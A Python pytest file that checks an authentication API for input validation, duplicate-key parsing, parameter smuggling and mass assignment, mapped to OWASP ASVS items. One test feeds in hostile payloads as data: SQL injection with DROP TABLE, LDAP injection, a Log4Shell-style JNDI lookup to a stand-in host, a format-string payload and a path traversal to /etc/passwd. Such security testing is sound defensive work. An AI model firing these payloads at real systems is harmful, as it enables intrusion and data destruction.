"""Something else than text where text is expected, two values where one is, members that nobody asked for.

LG-18, LG-19, LG-26, ID-10 (OWASP ASVS 15.3.3, 15.3.5, 15.3.7).
"""

from typing import Any

import pytest

from tests.site import API, PASSWORD, code_of, running

pytestmark = pytest.mark.anyio

JSON = {"content-type": "application/json"}


@pytest.mark.parametrize("value", [{"$ne": ""}, {}, [], ["ann@example.com"], 1, 1.5, True, None])
@pytest.mark.parametrize("field", ["email", "password"])
async def test_only_text_is_taken_for_text(field: str, value: Any):
    async with running() as site:
        await site.register(site.client())
        body = {"email": "ann@example.com", "password": PASSWORD, field: value}
        for path in ("login", "register"):
            answer = await site.client().post(f"{API}/{path}", json=body)
            assert (answer.status_code, code_of(answer)) == (422, "request.invalid")
            assert [error["field"] for error in answer.json()["errors"]] == [field]


@pytest.mark.parametrize(
    "text",
    [
        "' OR '1'='1' --",
        "ann@example.com' OR 1=1; DROP TABLE users; --",
        "ann@example.com%00",
        "*)(uid=*))(|(uid=*",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "%s%s%s%n",
        "../../etc/passwd",
    ],
)
async def test_text_that_means_something_elsewhere_means_nothing_here(text: str):
    async with running() as site:
        root = await site.administrator()
        for path, body in (
            ("login", {"email": text, "password": text}),
            ("register", {"email": text, "password": PASSWORD}),
        ):
            assert (await site.client().post(f"{API}/{path}", json=body)).status_code in (401, 422)
        assert (await site.client().post(f"{API}/token", data={"grant_type": text})).status_code == 400
        found = await root.post(f"{API}/admin/users/search", json={"query": text})
        assert found.json()["users"] == []
        for name in ("user", "kind", "cursor"):
            answer = await root.get(f"{API}/admin/audit", params={name: text})
            assert answer.status_code == 200
        assert (await root.get(f"{API}/admin/users/{text.replace('/', '')}")).status_code == 404


@pytest.mark.parametrize(
    "body",
    [
        b'{"email":"ann@example.com","email":"bob@example.com","password":"x"}',
        b'{"email":"ann@example.com","password":"x","password":"three quiet herons wade"}',
        b'{"email":"ann@example.com","password":"x"}{"email":"bob@example.com"}',
        b'[{"email":"ann@example.com","password":"x"}]',
        b"email=ann@example.com&password=x",
        b"",
        b"{",
        b"\xff\xfe{}",
        b'\xef\xbb\xbf{"email":"ann@example.com","password":"x"}',
        b'{"email":NaN,"password":Infinity}',
    ],
)
async def test_what_could_be_read_in_two_ways_is_not_read(body: bytes):
    async with running() as site:
        answer = await site.client().post(f"{API}/login", content=body, headers=JSON)
        assert (answer.status_code, code_of(answer)) == (400, "request.malformed")


async def test_parameters_in_the_query_are_no_substitute_for_the_body():
    async with running() as site:
        await site.register(site.client())
        answer = await site.client().post(
            f"{API}/login?email=ann@example.com&password={PASSWORD}", json={"email": "ann@example.com"}
        )
        assert [error["field"] for error in answer.json()["errors"]] == ["password"]
        form = await site.client().post(f"{API}/token?grant_type=refresh_token", data={"scope": ""})
        assert form.json()["error"] == "unsupported_grant_type"


async def test_a_query_parameter_that_appears_twice_is_refused():
    async with running() as site:
        answer = await site.client().post(f"{API}/logout?wait=false&wait=true")
        assert (answer.status_code, code_of(answer)) == (422, "request.invalid")


@pytest.mark.parametrize(
    "member",
    [
        "is_admin",
        "roles",
        "status",
        "id",
        "version",
        "email_verified",
        "tenant_id",
        "organisation",
        "__proto__",
        "data",
    ],
)
async def test_nobody_gives_themselves_more_by_naming_it(member: str):
    async with running() as site:
        browser = site.browser()
        body = {"email": "eve@example.com", "password": PASSWORD, member: ["coatcheck:admin"]}
        answer = await browser.post(f"{API}/register", json=body)
        assert answer.json()["errors"] == [{"field": member, "reason": "This field is not known here."}]
        await site.register(browser)
        answer = await browser.patch(f"{API}/me", json={"name": "Ann", member: ["coatcheck:admin"]})
        assert code_of(answer) == "request.invalid"
        me = (await browser.get(f"{API}/me")).json()["user"]
        assert (me["name"], me["roles"]) == ("", [])


async def test_a_password_is_changed_only_with_the_current_one_and_only_ones_own():
    async with running() as site:
        browser, victim = site.browser(), site.browser()
        await site.register(browser)
        bob = await site.register(victim, "bob@example.com")
        for body in (
            {"new": "two odd tall elms"},
            {"current": "", "new": "two odd tall elms"},
            {"current": "wrong", "new": "two odd tall elms"},
            {"current": PASSWORD, "new": "two odd tall elms", "user_id": bob["user"]["id"]},
        ):
            assert (await browser.post(f"{API}/password", json=body)).status_code in (401, 422)
        await site.log_in(site.client(), "bob@example.com")
        await site.log_in(site.client(), "ann@example.com")
